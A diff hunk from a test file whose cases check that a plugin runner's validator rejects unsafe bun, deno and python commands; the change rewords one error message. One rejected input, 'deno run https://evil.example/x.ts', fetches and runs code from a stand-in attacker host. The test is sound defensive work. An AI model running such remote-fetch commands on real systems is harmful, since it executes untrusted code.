@@ -104,7 +104,7 @@ def test_a_runner_with_a_file_or_a_file_of_the_plugin(plugin: Path, command: Any
         ("bun -e 1", "is not allowed"),
         ("bun x cowsay", "no file 'x'"),
         ("bun --preload ./x src/m.ts", "is not allowed"),
-        ("deno eval 1", "deno must be told to run"),
+        ("deno eval 1", "deno needs `run`"),
         ("deno run https://evil.example/x.ts", "no file 'https://evil.example/x.ts'"),
         ("deno run --import-map=x src/m.ts", "is not allowed"),
         ("python", "is given no file"),
